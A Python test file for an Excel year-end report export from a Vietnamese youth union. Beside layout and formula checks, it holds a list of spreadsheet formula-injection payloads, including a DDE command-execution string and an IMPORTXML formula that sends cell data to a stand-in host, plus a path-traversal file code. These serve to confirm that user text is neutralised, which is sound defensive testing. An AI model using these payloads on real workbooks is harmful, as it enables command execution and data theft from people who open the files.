import re
from datetime import datetime
from fractions import Fraction

import pytest

from reports.export_json import plain
from reports.workbook import build, file_name
from reports.yearend import gather
from targets.models import Target
from tests.factories import make_target, make_unit
from tests.reports.sheets import calculated, formulas, header_row, reopened, table

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    '=HYPERLINK("http://x.example","x")',
    "=cmd|' /C calc'!A0",
    "{=1+1}",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
    "http://x.example",
    "12345",
]
TARGETS, FIGURES, UNITS, NOTES = "Kết quả chỉ tiêu", "Số liệu phong trào", "Đơn vị × chỉ tiêu", "Giải thích"


@pytest.fixture
def report(khoi):
    return gather(khoi.world.k1, khoi.world.year)


@pytest.fixture
def books(report):
    return reopened(build(report))


def test_four_sheets_set_up_for_a4(books):
    live, _ = books
    assert live.sheetnames == [TARGETS, FIGURES, UNITS, NOTES]
    for sheet, first in zip(live, ("STT", "Chỉ số", "STT", "Mục"), strict=True):
        top = header_row(sheet, first)
        page = sheet.page_setup
        assert (page.paperSize, page.orientation, page.fitToWidth or 1, page.fitToHeight) == (9, "landscape", 1, 0)
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert sheet.print_title_rows == f"${top}:${top}"
        assert sheet.freeze_panes in (f"B{top + 1}", f"C{top + 1}")
        assert sheet.print_area.startswith(f"'{sheet.title}'!$A$1:")
        fonts = {cell.font.name for row in sheet.iter_rows() for cell in row if cell.value is not None}
        assert fonts == {"Times New Roman"}


def test_the_heading_is_that_of_the_union(books):
    live, _ = books
    for sheet in live:
        words = [cell.value for row in sheet.iter_rows(max_row=8) for cell in row if cell.value]
        assert words[:2] == ["ĐƠN VỊ P1", "ĐOÀN TNCS HỒ CHÍ MINH"]
        assert words[2:6] == ["ĐƠN VỊ K1", "……………, ngày …… tháng …… năm ………", "***", "Số: ……-BC/ĐTN"]
        assert not any("CỘNG HÒA" in word.upper() or "CỘNG HOÀ" in word.upper() for word in words)


def words_of(report):
    live, _ = reopened(build(report))
    return [cell.value for row in live[TARGETS].iter_rows() for cell in row if isinstance(cell.value, str)]


def test_a_branch_signs_for_its_own_board(khoi, report):
    year = khoi.world.year
    assert words_of(report)[-2:] == ["TM. BAN THƯỜNG VỤ", "BÍ THƯ"]
    assert words_of(gather(khoi.branch, year))[-2:] == ["TM. BAN CHẤP HÀNH", "BÍ THƯ"]
    assert words_of(gather(khoi.world.tw, year))[:2] == ["ĐƠN VỊ TW", "ĐOÀN TNCS HỒ CHÍ MINH"]


def test_every_measure_is_a_row_under_its_target(books):
    _, values = books
    rows = table(values[TARGETS], "STT")
    shown = ("STT", "ĐVT", "Chỉ tiêu cấp trên giao", "Đăng ký", "Kết quả", "Tỷ lệ %", "Đánh giá")
    assert list(rows[0]) == [
        "STT",
        "Nội dung",
        "ĐVT",
        "Chỉ tiêu cấp trên giao",
        "Đăng ký",
        "Kết quả",
        "Tỷ lệ %",
        "Cùng kỳ năm trước",
        "Tăng/giảm",
        "Đánh giá",
        "Ghi chú",
    ]
    assert [tuple(row[name] for name in shown) for row in rows] == [
        ("Chỉ tiêu do Đơn vị p1 ban hành", None, None, None, None, None, None),
        (1, None, None, None, None, None, "Vượt"),
        ("1a", "cây", 100, 120, 103, 1.03, "Vượt"),
        ("Chỉ tiêu do Đơn vị k1 ban hành", None, None, None, None, None, None),
        (2, None, None, None, None, None, "Chưa đạt"),
        ("2a", "%", 0.665, None, 0.665, 1, "Đạt"),
        ("2b", "%", 1, None, 0.6667, 0.6667, "Chưa đạt"),
        (3, None, None, None, None, None, "Chưa đạt"),
        ("3a", "hoàn thành", datetime(2024, 5, 31), None, 0.3333, 0.3333, "Chưa đạt"),
        (4, None, None, None, None, None, "Chưa đạt"),
        ("4a", "km", 25.5, None, 22.4, 0.8784, "Chưa đạt"),
        (5, None, None, None, None, None, "Chưa có số"),
        ("5a", "sáng kiến", 5, None, None, None, "Chưa có số"),
        ("Hoàn thành 1/5 chỉ tiêu, trong đó 1 chỉ tiêu vượt kế hoạch.", None, None, None, None, None, None),
    ]
    assert [row["Ghi chú"] for row in rows if row["STT"] in ("1a", "2b", "3a", "4a")] == [
        "Vượt 3 cây so với kế hoạch; thiếu 17 cây so với đăng ký; đã trừ trùng 81",
        "2/3 đơn vị; thiếu 33,33 điểm phần trăm so với kế hoạch; đơn vị tự đặt ra",
        "1/3 đơn vị; hạn 31/05/2024; đơn vị tự đặt ra",
        "Thiếu 3,1 km so với kế hoạch; đơn vị tự đặt ra",
    ]


def test_the_change_since_last_year_is_live(khoi):
    from datetime import date

    from tests.factories import make_year

    world = khoi.world
    make_year(2023)
    khoi.record(world.b11, world.planting, {world.trees: 110}, date(2023, 5, 5))
    live, values = reopened(build(gather(world.k1, world.year)))
    row = next(row for row in table(values[TARGETS], "STT") if row["STT"] == "1a")
    assert (row["Cùng kỳ năm trước"], row["Tăng/giảm"]) == (110, -7)
    change = next(cell for cell in formulas(live[TARGETS]) if cell.column_letter == "I")
    assert (change.value, change.number_format) == (
        f"=F{change.row}-H{change.row}",
        "[$-42A]+#,##0;[$-42A]-#,##0;[$-42A]0",
    )


def test_every_formula_calculates_to_the_value_it_carries(books):
    live, values = books
    counts = {}
    for sheet in live:
        for cell in formulas(sheet):
            found, cached = calculated(sheet, cell.value), values[sheet.title][cell.coordinate].value
            assert abs(found - Fraction(str(cached))) < Fraction(1, 10**9), (sheet.title, cell.coordinate, cell.value)
        counts[sheet.title] = len(formulas(sheet))
    assert counts == {TARGETS: 8, FIGURES: 24, UNITS: 8, NOTES: 0}


def test_formulas_agree_with_the_stored_totals(report, books):
    live, _ = books
    sheet = live[FIGURES]
    top = header_row(sheet, "Chỉ số")
    headers = [cell.value for cell in sheet[top]]
    assert headers == [
        "Chỉ số",
        "ĐVT",
        "Cấp tỉnh",
        "Cấp khối/huyện",
        "Cấp cơ sở",
        "Tổng",
        "Trị giá (đồng)",
        "Tự đơn vị",
        "Trừ trùng",
    ]
    rows = {sheet.cell(row, 1).value: row for row in range(top + 1, sheet.max_row)}
    for line in report.lines:
        total = sheet.cell(rows[line.indicator.name], 6).value
        if line.total is None:
            assert total is None
        else:
            assert calculated(sheet, total) == Fraction(str(plain(line.total, line.indicator.decimals)))


def test_figures_by_level_with_wholes_over_their_parts(books):
    live, values = books
    rows = {row["Chỉ số"]: row for row in table(values[FIGURES], "Chỉ số")}
    levels = ("Cấp tỉnh", "Cấp khối/huyện", "Cấp cơ sở", "Tổng", "Trị giá (đồng)", "Tự đơn vị", "Trừ trùng")
    shown = {name: tuple(row[level] for level in levels) for name, row in rows.items()}
    assert shown["Công trình thanh niên"] == (1, 2, 1, 4, 710_000_000, 2, None)
    assert shown["Công trình và phần việc thanh niên"] == (1, 2, 1, 4, 720_000_000, 2, None)
    assert shown["Trị giá công trình, phần việc thanh niên"] == (
        500_000_000,
        200_000_000,
        20_000_000,
        720_000_000,
        None,
        500_000_000,
        None,
    )
    assert shown["Chỉ số thu-cay-xanh"] == (None, 11, 92, 103, None, 11, 81)
    assert shown["Đường giao thông làm mới"] == (None, None, 22.4, 22.4, None, None, None)
    groups = [name for name, row in rows.items() if row["ĐVT"] is None]
    assert groups == ["Phong trào hành động cách mạng"]
    sheet = live[FIGURES]
    whole = next(row for row in range(1, 60) if sheet.cell(row, 1).value == "Trị giá công trình, phần việc thanh niên")
    assert [sheet.cell(whole, column).value for column in (3, 4, 5, 6)] == [
        f"=C{whole + 1}",
        f"=D{whole + 1}",
        f"=E{whole + 1}+10000000",
        f"=SUM(C{whole}:E{whole})",
    ]


def test_the_central_column_comes_only_with_central_works(khoi):
    from activities.models import ActivityKind

    world = khoi.world
    khoi.record(world.tw, ActivityKind.objects.get(code="cong-trinh"), {}, work_level="central")
    _, values = reopened(build(gather(world.tw, world.year)))
    rows = {row["Chỉ số"]: row for row in table(values[FIGURES], "Chỉ số")}
    found = rows["Công trình thanh niên"]
    assert (found["Cấp tỉnh"], found["Trung ương"], found["Tổng"]) == (1, 1, 5)


def test_children_own_and_overlap_make_the_total(report, books):
    live, values = books
    rows = table(values[UNITS], "STT")
    trees, percent = "Chỉ số thu-cay-xanh (cây)", "% kế hoạch chỉ tiêu 1a của Đơn vị p1"
    assert [(row["STT"], row["Đơn vị"], row[trees], row[percent]) for row in rows] == [
        (1, "Đoàn trường", None, None),
        (2, "Đơn vị b11", 72, 1.8),
        (3, "Đơn vị b12", 101, None),
        (None, "Cộng các đơn vị trực thuộc", 173, None),
        (None, "Tự đơn vị ghi nhận", 11, None),
        (None, "Trừ trùng (hoạt động phối hợp)", 81, None),
        (None, "Toàn đơn vị", 103, 1.03),
    ]
    sheet = live[UNITS]
    last = next(row for row in range(1, 60) if sheet.cell(row, 2).value == "Toàn đơn vị")
    for column, line in enumerate(report.asked, 3):
        formula = sheet.cell(last, column).value
        if line.total is None:
            assert formula is None
        else:
            assert calculated(sheet, formula) == Fraction(str(plain(line.total, line.indicator.decimals)))


def test_a_unit_without_children_and_one_without_anything(khoi, world):
    _, values = reopened(build(gather(khoi.branch, world.year)))
    rows = table(values[UNITS], "STT")
    assert [row["Đơn vị"] for row in rows[-1:]] == ["Toàn đơn vị"]
    empty = make_unit("rong", "doan-co-so", world.k2)
    live, _ = reopened(build(gather(empty, world.year)))
    assert [formulas(sheet) for sheet in live] == [[], [], [], []]


def test_numbers_are_numbers_and_dates_dates(books):
    live, values = books
    textual = re.compile(r"-?[\d.,]+%?")
    for sheet in values:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert not textual.fullmatch(cell.value), (sheet.title, cell.coordinate, cell.value)
    formats = {cell.number_format for sheet in live for row in sheet.iter_rows() for cell in row
               if isinstance(cell.value, int | float) or cell.data_type == "f"}  # fmt: skip
    assert formats == {"General", "[$-42A]#,##0", "[$-42A]#,##0.00", "[$-42A]0.0#%"}
    dates = [cell for row in live[NOTES].iter_rows() for cell in row if isinstance(cell.value, datetime)]
    assert [cell.number_format for cell in dates] == ["dd/mm/yyyy", "dd/mm/yyyy"]
    assert dates[0].value == datetime(2024, 12, 31)


def test_user_text_never_becomes_a_formula_or_a_link(khoi):
    world = khoi.world
    before, _ = reopened(build(gather(world.k1, world.year)))
    for payload in PAYLOADS:
        write_everywhere(world, payload)
        check_texts(before, reopened(build(gather(world.k1, world.year)))[0], payload)


def write_everywhere(world, payload):
    for unit in (world.p1, world.k1, world.b11):
        unit.name = f"{payload} "
        unit.save(update_fields=["name"])
    Target.objects.update(text=payload, note=payload)
    world.trees.name = payload
    world.trees.unit_of_measure = payload[:30]
    world.trees.save()
    for measure in Target.objects.get(number=1).measures.all():
        measure.text = payload
        measure.save(update_fields=["text"])


def check_texts(before, live, payload):
    for sheet in live:
        ours = [cell.coordinate for cell in formulas(before[sheet.title])]
        assert [cell.coordinate for cell in formulas(sheet)] == ours
        assert [cell.value for cell in formulas(sheet)] == [cell.value for cell in formulas(before[sheet.title])]
        assert not [cell for row in sheet.iter_rows() for cell in row if cell.hyperlink]
        texts = [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "s"]
        assert any(payload.strip() in cell.value for cell in texts)
        risky = [cell for cell in texts if cell.value.startswith(("=", "+", "-", "@"))]
        assert all(cell.quotePrefix for cell in risky)


def test_the_file_name_is_ascii(report, khoi):
    assert file_name(report) == "BaoCao_k1_2024.xlsx"
    for code, name in (
        ("ĐK-Đắk Lắk/01", "BaoCao_DK-Dak_Lak_01_2024.xlsx"),
        ("../..", f"BaoCao_{khoi.world.k1.pk}_2024.xlsx"),
    ):
        khoi.world.k1.code = code
        khoi.world.k1.save(update_fields=["code"])
        assert file_name(gather(khoi.world.k1, khoi.world.year)) == name


def test_a_plan_of_zero_and_a_long_text(world):
    make_target(world.k1, 2024, [{"kind": "total", "value": 0, "indicators": [world.trees]}], text="chữ " * 20_000)
    _, values = reopened(build(gather(world.k1, world.year)))
    rows = table(values[TARGETS], "STT")
    assert (len(rows[0]["Nội dung"]), rows[1]["Chỉ tiêu cấp trên giao"], rows[1]["Tỷ lệ %"]) == (32_767, 0, None)
